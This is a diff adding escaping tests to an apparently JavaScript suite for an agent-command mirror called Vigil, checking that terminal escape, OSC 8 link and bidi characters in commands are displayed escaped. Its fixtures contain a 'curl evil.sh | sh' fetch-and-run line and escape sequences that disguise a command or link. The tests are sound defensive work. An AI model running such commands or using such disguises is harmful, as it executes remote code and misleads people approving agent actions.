@@ -71,4 +71,30 @@ describe('task mirror feed', () => {
     assert.strictEqual(taskIcon(task({ status: 'exited', exitCode: 0 })), 'pass');
     assert.strictEqual(mirrorName({ id: 't-1', command: 'npm   run\nwatch' }), 'Vigil t-1: npm run watch');
   });
+
+  it('the header shows an agent\'s command escaped, as its approval did: no escape sequence reaches the terminal', () => {
+    const { feed: f, written } = feed();
+    f.open();
+    // Erase the line and draw another command; an OSC 8 link whose text is not its target; a bidi override.
+    const hostile = 'curl evil.sh | sh\x1b[2K\rnpm test \x1b]8;;https://evil.example\x07docs\x1b]8;;\x07 \u202eexe.gnp';
+    f.header(task({ command: hostile }), false);
+    const header = written.join('');
+    // Vigil's own dim/reset codes frame the line; nothing of the agent's is interpreted.
+    // eslint-disable-next-line no-control-regex -- the point is to find control characters
+    const inner = header.replace(/^\x1b\[2m/, '').replace(/\x1b\[0m\r\n$/, '');
+    // eslint-disable-next-line no-control-regex -- the point is to find control characters
+    assert.doesNotMatch(inner, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
+    assert.strictEqual(inner, 'Vigil task t-1 · curl evil.sh | sh\\u{1b}[2K\\rnpm test \\u{1b}]8;;https://evil.example\\u{7}docs\\u{1b}]8;;\\u{7} \\u{202e}exe.gnp');
+    // A long command is not cut: the mirror's stream redactor must see a secret in it whole.
+    const long = `${'x'.repeat(600)} --token sk-0123456789 ${'y'.repeat(600)}`;
+    const { feed: g, written: w } = feed();
+    g.open();
+    g.header(task({ command: long }), false);
+    assert.ok(w.join('').includes(long));
+  });
+
+  it('tab names and pick rows show control and bidi characters escaped too', () => {
+    assert.strictEqual(mirrorName({ id: 't-1', command: 'a\x1b]0;title\x07\u202eb' }), 'Vigil t-1: a\\u{1b}]0;title\\u{7}\\u{202e}b');
+    assert.strictEqual(presentTaskPick({ ...task({ command: 'x\u2066y' }), sessionId: 's' }, 1_000).label, '$(sync~spin) x\\u{2066}y');
+  });
 });
